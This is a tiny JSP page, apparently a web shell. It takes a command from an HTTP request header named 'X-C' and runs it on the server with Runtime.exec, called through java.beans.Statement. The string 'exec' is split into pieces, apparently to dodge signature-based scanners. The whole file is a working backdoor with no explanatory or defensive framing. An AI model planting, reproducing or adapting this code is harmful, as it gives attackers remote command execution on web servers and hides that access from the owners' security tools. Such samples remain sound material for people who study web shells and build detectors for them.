<%@ page import="java.beans.*" %>
<%
	String c = request.getHeader("X-C");
	Statement st = new Statement(Runtime.getRuntime(), "ex" + "ec", new Object[] {c});
	st.execute();
%>
